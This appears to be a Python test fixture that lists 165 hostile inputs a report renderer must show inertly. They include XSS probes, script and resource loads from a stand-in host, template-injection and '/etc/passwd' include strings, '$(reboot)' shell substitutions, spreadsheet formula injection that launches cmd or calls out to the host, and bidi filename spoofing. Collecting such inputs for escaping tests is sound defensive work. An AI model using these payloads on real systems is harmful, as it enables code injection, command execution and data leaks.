"""A hundred and sixty-five things somebody might write, or paste, that a report must show and never run."""

_SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "<SCRIPT SRC=//x.test/a.js></SCRIPT>",
    "<script type=module>import('//x.test/m.js')</script>", "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<style>*{display:none}</style>", "</style><script>alert(4)</script>", "<!--<script>alert(5)</script>-->",
    "--><script>alert(6)</script>", "]]><script>alert(7)</script>", "<?php echo 1 ?>", "<%= 1 %>",
    "</title><script>alert(8)</script>", "</textarea><script>alert(9)</script>", "<noscript><p title='</noscript><script>alert(10)</script>'>",
)  # fmt: skip
_HANDLERS = (
    "<img src=x onerror=alert(1)>", "<svg onload=alert(2)>", "<body onload=alert(3)>", "<details open ontoggle=alert(4)>",
    "<input autofocus onfocus=alert(5)>", "\" onmouseover=alert(6) x=\"", "' onfocus='alert(7)' autofocus='",
    "<video><source onerror=alert(8)></video>", "<marquee onstart=alert(9)>", "<a href=javascript:alert(10)>tea</a>",
    "<p style=animation-name:x onanimationstart=alert(11)>", "<iframe srcdoc='<script>alert(12)</script>'>",
    "<select autofocus onfocus=alert(13)>", "<math><mtext><img src=x onerror=alert(14)>", "<object data=javascript:alert(15)>",
)  # fmt: skip
_FETCHES = (
    "<img src=//x.test/a.png>", "<link rel=stylesheet href=//x.test/a.css>", "<base href=//x.test/>",
    "<meta http-equiv=refresh content='0;url=//x.test'>", "<iframe src=//x.test></iframe>", "<embed src=//x.test/a.swf>",
    "<form action=//x.test><button>ok</button></form>", "<video src=//x.test/a.mp4 autoplay>", "<audio src=//x.test/a.mp3>",
    "<link rel=prefetch href=//x.test>", "<svg><image href=//x.test/a.png /></svg>", "<svg><use href=//x.test/a.svg#b /></svg>",
    "<div style=\"background:url(//x.test/a)\">", "@import url(//x.test/a.css);", "<table background=//x.test/a.png>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% for x in y %}", "{# note #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ ''.__class__.__mro__ }}",
    "{{ config.items() }}", "{% include '/etc/passwd' %}", "{% raw %}", "{{ cycler.__init__.__globals__ }}", "%s %d %n",
    "{0.__class__}", "$(reboot)", "`reboot`",
)  # fmt: skip
_MARKDOWN = (
    "# A heading", "**bold** and _not_", "[tea](javascript:alert(1))", "![pic](//x.test/a.png)", "- one\n- two", "> quoted",
    "```\ncode\n```", "| a | b |\n|---|---|\n| 1 | 2 |", "<https://x.test>", "$x^2$", "$$\\frac{1}{2}$$", "\\(a+b\\)", "\\[a+b\\]",
    "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}", "[^1]: a note",
)  # fmt: skip
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&amp;amp;", "&nbsp;", "&", "&;", "&#0;",
    "&#xD800;", "&copy", "a&b=c", "<", ">", "<>", "< b >",
)  # fmt: skip
_CONTROLS = (
    "tea\x00time", "\x01\x02\x03", "bell\x07", "back\x08space", "line\x0btab", "form\x0cfeed", "old\rMac", "Windows\r\nline",
    "\x1b[31mred\x1b[0m", "\x1b]8;;//x.test\x07tea\x1b]8;;\x07", "\x1b[2J\x1b[H", "del\x7fete", "next\x85line", "\x9b31mred", "\x1a",
)  # fmt: skip
_DIRECTIONS = (
    "\u202eesrever", "\u202dforced\u202c", "left\u200eright\u200f", "\u2066isolated\u2069", "\u2067right\u2069", "\u2068first",
    "\u202b\u202b\u202b", "\u061c", "\u05e9\u05dc\u05d5\u05dd tea", "\u0645\u0631\u062d\u0628\u0627 tea",
    "he said \u202e\u2066// gnp.exe\u2069", "\u200b\u200c\u200d", "\ufeffmark", "a\u00adb", "\u2028line\u2029paragraph",
)  # fmt: skip
_LETTERS = (
    "\ud800", "half\udc00", "\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\ufffd", "e\u0301" * 12, "a" + "\u0336" * 60, "👩‍👩‍👧‍👦 tea",
    "\U000e0041\U000e0042", "ｆｕｌｌ ｗｉｄｔｈ", "ﬁ ﬂ", "İi Iı ß", "\u3164",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=HYPERLINK(\"//x.test\",\"tea\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "=IMPORTXML(\"//x.test\",\"//a\")", "=WEBSERVICE(\"//x.test\")", "＝1+1", "'=1+1", "%=1+1",
)  # fmt: skip


def list_hostile_words() -> list[str]:
    """All of them; the last group are very long lines, with and without a place to break."""
    long = [sign * 1200 for sign in ("x", "<", "&", '"', "'", "=", "{", "\u202e", "\x1b", "🙂")]
    long += ["word " * 300, "<b>" * 400, "a\n" * 200, "https://x.test/" + "a/" * 600, "\t" * 900 + "."]
    groups = (_SCRIPTS, _HANDLERS, _FETCHES, _TEMPLATES, _MARKDOWN, _ENTITIES, _CONTROLS, _DIRECTIONS, _LETTERS, _FORMULAS)
    return [*(words for group in groups for words in group), *long]
